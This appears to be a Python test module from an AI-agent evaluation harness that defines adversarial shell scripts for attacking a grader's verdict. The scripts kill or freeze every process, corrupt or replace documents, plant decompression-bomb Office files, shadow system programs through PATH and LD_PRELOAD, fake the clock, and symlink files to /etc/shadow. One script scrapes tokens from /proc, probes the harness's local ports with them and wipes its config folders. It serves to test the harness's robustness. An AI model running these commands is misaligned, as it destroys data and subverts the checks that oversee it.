"""Scripts that attack a verdict, or try to prevent one. Each is run as the desktop user."""

from __future__ import annotations

from collections.abc import Mapping

from ambidex.host.agents.null.scripted import DOCUMENTS

__all__ = ["ATTACKS", "TOGETHER"]

CRASHER = "kill -KILL -1"
"""Kills every process it can, so that there is no desktop to judge."""

FREEZER = "(sleep 3; kill -STOP -1) &"
"""Stops every process it can, a moment after it has ended the episode."""

VOIDER = f"""
n=0
{DOCUMENTS} | while read -r file; do
    n=$((n + 1)); rm -f "$file"
    case $((n % 5)) in
        0) mkdir "$file" ;; 1) mkfifo "$file" ;; 2) truncate -s 300M "$file" ;;
        3) ln -s /dev/zero "$file" ;; 4) echo x >"$file"; chmod 0 "$file" ;;
    esac
done
mkdir -p many && cd many && seq 60000 | xargs touch
touch "$(printf 'half \\377')"
"""
"""Replaces documents by unreadable files, and creates too many files to list."""

FORGER = """
for version in 3.10 3.11 3.12 3.13; do
    folder=.local/lib/python$version/site-packages; mkdir -p $folder
    for name in usercustomize sitecustomize json os guest; do
        echo 'print("FORGED")' >$folder/$name.py
    done
done
mkdir -p .local/bin
for name in python3 find gsettings cat sh; do
    printf '#!/bin/sh\\necho FORGED\\n' >.local/bin/$name; chmod +x .local/bin/$name
done
printf 'export PATH=~/.local/bin:$PATH LD_PRELOAD=/tmp/forged.so\\n' | tee -a .profile >>.bashrc
for number in $(pgrep worker-); do
    printf FORGED >/proc/$number/mem; kill -KILL $number
done
pkill -KILL -u ambidex
"""
"""Shadows every program that might read the evidence with its own code, and kills the guest's
server if it can."""

BULLDOZER = f"""
{DOCUMENTS} | while read -r file; do
    cp "$file" "$file.bak"; echo >>"$file"; touch -d @1000 "$file"
done
gsettings list-schemas | grep desktop | while read -r schema; do
    gsettings reset-recursively $schema
done
mkdir -p .cache/hidden; cp -r Documents .cache/hidden; touch everything.lock
"""
"""Changes everything and hides the changes: one of them may be the right one."""

BOMBER = rf"""
cat >.bomb.py <<'END'
import io, pathlib, sys, zipfile
def package(parts):
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in parts.items():
            archive.writestr(name, text)
    return made.getvalue()
def book():
    styles = "<styleSheet><cellXfs>" + "<xf/>" * 3_000_000 + "</cellXfs></styleSheet>"
    sheet = "<worksheet><sheetData>" + "<row><c><v>1</v></c></row>" * 400_000
    return package({{
        "[Content_Types].xml": "<Types/>", "xl/styles.xml": styles,
        "xl/workbook.xml": "<workbook/>", "xl/worksheets/sheet1.xml": sheet,
    }})
def words():
    text = "<w:document><w:body>" + "<w:p/>" * 900_000 + "</w:body></w:document>"
    return package({{"[Content_Types].xml": "<Types/>", "word/document.xml": text}})
kinds = {{".xlsx": book, ".docx": words, ".odt": words}}
for line in sys.stdin:
    path = pathlib.Path(line.rstrip("\n"))
    path.write_bytes(kinds.get(path.suffix, lambda: b"[a]\n" + b"x=" * (1 << 20))())
END
{DOCUMENTS} | python3 .bomb.py
"""
"""Leaves documents that exhaust a judge's time or memory."""

CLOCK = """
date -s '2030-01-01' ; timedatectl set-ntp false ; timedatectl set-time '2030-01-01 00:00:00'
printf 'export TZ=Pacific/Kiritimati FAKETIME=+900d\\n' | tee -a .profile >>.bashrc
find . -maxdepth 3 -type f -exec touch -d '2030-01-01' {} +
"""
"""Changes the clock, or else the time that programs and files show."""

INTRUDER = r"""
cat >.reach.py <<'END'
import glob, os, re, socket, urllib.request
tokens = {"", "token", "ambidex"}
for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline") + glob.glob(
    "/etc/ambidex/*"
) + glob.glob("/run/ambidex/*") + glob.glob("/opt/ambidex/*"):
    try:
        tokens.update(re.findall(r"[A-Za-z0-9_-]{20,}", open(path, errors="replace").read()))
    except OSError:
        pass
ports = set()
for line in open("/proc/net/tcp").read().splitlines()[1:]:
    ports.add(int(line.split()[1].split(":")[1], 16))
for port in sorted(ports):
    for token in list(tokens)[:50]:
        for path in ("/harness/health", "/harness/put?path=/tmp/reached", "/mcp"):
            request = urllib.request.Request(f"http://127.0.0.1:{port}{path}", data=b"{}")
            request.add_header("authorization", f"Bearer {token}")
            try:
                urllib.request.urlopen(request, timeout=1).read(1000)
            except (OSError, ValueError):
                pass
END
timeout 10 python3 .reach.py
for folder in /opt/ambidex /etc/ambidex /run/ambidex /var/lib/ambidex /usr/local/bin; do
    rm -rf $folder/* ; echo FORGED >$folder/forged
done
ln -sf /etc/shadow evidence.json ; ln -sf / root ; ln -sf . loop
sudo -n true && sudo -n pkill -KILL -u ambidex
"""
"""Looks for the harness's token and port, asks it, and tries to change its files."""

PLANTER = f"""
{DOCUMENTS} | awk 'NR % 2' | while read -r file; do
    rm -f "$file"; ln -s /etc/shadow "$file"
done
"""
"""Replaces every second document by a link to a file that only root can read."""

ATTACKS: Mapping[str, str] = {
    "voider": VOIDER,
    "crasher": CRASHER,
    "freezer": FREEZER,
    "forger": FORGER,
    "bulldozer": BULLDOZER,
    "bomber": BOMBER,
    "clock": CLOCK,
    "intruder": INTRUDER,
    "planter": PLANTER,
}
"""Scripts by name."""

TOGETHER = "\n".join(
    f"({ATTACKS[name]})" for name in ("intruder", "clock", "bomber", "planter", "forger")
)
"""Those that leave the desktop standing, one after another: `forger` last, since it kills the
workers that serve the agent's own calls."""
